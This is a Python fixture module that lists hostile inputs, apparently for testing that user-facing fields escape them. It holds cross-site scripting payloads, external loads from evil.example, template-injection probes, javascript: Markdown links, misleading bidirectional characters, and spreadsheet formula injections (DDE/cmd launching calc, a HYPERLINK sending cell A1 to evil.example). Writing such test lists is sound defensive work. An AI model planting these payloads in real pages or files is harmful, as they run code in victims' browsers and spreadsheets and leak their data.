"""Texts that nobody should show, run, fetch or calculate: for every field that agents and people write into."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea></pre></select></title><script src=http://evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<details open ontoggle=alert(1)>",
    '<div x-data x-init="alert(1)" hx-get="http://evil.example" hx-trigger="load">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=http://evil.example></object>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href=http://evil.example/>',
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/y.css'</style>",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7} <%= 7*7 %>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVa&#115;cript&colon;alert(1)) [x](<java\tscript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1) 'x'",
    "<javascript:alert(1)> [x](data:text/html,<script>alert(1)</script>) [x](vbscript:x)",
    "![x](http://evil.example/x.png) ![x][2]\n\n[2]: http://evil.example/y.png",
    '[x](http://a.example "\\"onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | `<script>` |\n|-|-|\n| <br onload=alert(1)> | x |",
)
CONTROLS = (
    "user\u202etxt.exe\u202c \u2066inner\u2069 \u2067\u202b",
    "\u200b\u200f\u061c\ufeff\u00ad",
    "bell\x07 escape\x1b[31m back\x08 zero\ufffd",
    "line\u2028separator\u2029 and\x85 next\x0b tab\x0c",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\u200b=1+1",
    "'=1+1",
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
)
BREAKS = (
    'a","b',
    "a\r\n=1+1",
    "a\n\n=1+1,b",
    'a";\r\n"=1+1',
    "sep=;\n=1+1;2",
)
TEXTS = (*SCRIPTS, *MARKDOWN, *CONTROLS, *FORMULAS, *BREAKS)
ALL = "\n\n".join(TEXTS)
"""All of them in one text."""
IDS = ('"><img/src=x/onerror=alert(1)>', "<svg/onload=alert(1)>", "javascript:alert(1)", "=1+1", "{{7*7}}")
"""What an id of 64 printable characters may hold."""
